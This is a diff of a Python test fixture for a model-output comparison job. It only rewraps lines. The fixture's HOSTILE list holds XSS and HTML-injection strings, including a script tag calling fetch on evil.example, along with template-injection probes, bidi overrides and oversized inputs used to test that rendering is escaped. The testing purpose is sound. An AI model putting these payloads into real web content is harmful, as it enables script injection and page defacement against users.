@@ -1,4 +1,5 @@
-"""Two invented runs on the same rows, as job=compare reads them: English, Chinese, equal answers, and what a hostile model would write."""
+"""Two invented runs on the same rows, as job=compare reads them: English, Chinese, equal answers, and what a hostile
+model would write."""
 
 from __future__ import annotations
 
@@ -14,7 +15,8 @@ LABELS = ("return an item", "track an order", "cancel an order")
 HOSTILE = (
     "<script>document.title='owned';fetch('//evil.example')</script><img src=x onerror=\"document.title='owned'\">",
     "</div></main><form action=/x><button data-keys=1>here</button></form><style>*{display:none}</style>",
-    "\u202eright to left override\u202c and \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 {{ 7 * 7 }} {% raw %}",
+    "\u202eright to left override\u202c and \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 "
+    "{{ 7 * 7 }} {% raw %}",
     "bell\x07 null\x00 escape\x1b[31m return\rtab\tend \ud800 \u2028next",
     "long " * 200_000,
     "x" * 30_000,
